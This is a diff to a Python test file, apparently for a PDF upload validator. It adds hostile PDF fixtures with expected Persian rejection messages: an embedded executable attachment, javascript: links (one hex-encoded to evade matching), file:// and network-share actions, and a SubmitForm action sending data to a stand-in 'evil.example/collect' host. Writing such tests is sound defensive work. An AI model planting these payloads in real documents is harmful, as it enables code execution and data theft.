@@ -76,6 +76,25 @@ def encrypted_pdf() -> bytes:
     return buffer.getvalue()
 
 
+def pdf_with_annotation(annotation: bytes, *more: bytes) -> bytes:
+    """A one-page PDF whose page carries ``annotation`` (object 4; ``more`` from 5 on)."""
+    return pdf(
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
+        annotation,
+        *more,
+        root_extra=b"/Pages 2 0 R",
+        pages=False,
+    )
+
+
+def link(action: bytes) -> bytes:
+    return pdf_with_annotation(b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A" + action + b">>")
+
+
+# A harmless link to a web page, as a PDF printer writes one: accepted.
+PDF_WITH_WEB_LINK = link(b"<</S/URI/URI(https://www.example.ir/page)>>")
+
 PNG = image("PNG")
 JPEG = image("JPEG")
 
@@ -114,6 +133,54 @@ HOSTILE = [
         "scan.pdf",
         pdf(b"<</Type/Action/S/Launch/F(calc.exe)>>"),
         "محتوای فعال",
+    ),
+    (
+        # Issue 21: an executable as a file-attachment annotation on the page.
+        "pdf_file_attachment_annotation",
+        "scan.pdf",
+        pdf_with_annotation(
+            b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>",
+            b"<</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>",
+            b"<</Type/EmbeddedFile/Length 4>>stream\nMZ\x90\x00\nendstream",
+        ),
+        "فایل پیوست",
+    ),
+    (
+        "pdf_javascript_link",
+        "scan.pdf",
+        link(b"<</S/URI/URI(javascript:app.alert(1))>>"),
+        "javascript:",
+    ),
+    (
+        # The same link written as a hex string: no byte says "javascript", pypdf decodes it.
+        "pdf_hex_javascript_link",
+        "scan.pdf",
+        link(b"<</S/URI/URI<" + b"javascript:alert(1)".hex().encode() + b">>>"),
+        "javascript:",
+    ),
+    (
+        "pdf_file_link",
+        "scan.pdf",
+        link(b"<</S/URI/URI(file://fileserver/share/run.exe)>>"),
+        "javascript:",
+    ),
+    (
+        "pdf_gotor_network_share",
+        "scan.pdf",
+        link(b"<</S/GoToR/F(\\\\\\\\fileserver\\\\share\\\\a.pdf)/D[0/Fit]>>"),
+        "پوشه اشتراکی شبکه",
+    ),
+    (
+        "pdf_submitform",
+        "scan.pdf",
+        link(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>"),
+        "ارسال فرم",
+    ),
+    (
+        "pdf_importdata",
+        "scan.pdf",
+        link(b"<</S/ImportData/F(\\\\\\\\fileserver\\\\share\\\\data.fdf)>>"),
+        "خواندن داده",
     ),
     ("pdf_encrypted", "scan.pdf", encrypted_pdf(), "رمزگذاری شده"),
     ("pdf_without_pages", "scan.pdf", pdf(pages=False), "هیچ صفحه‌ای ندارد"),
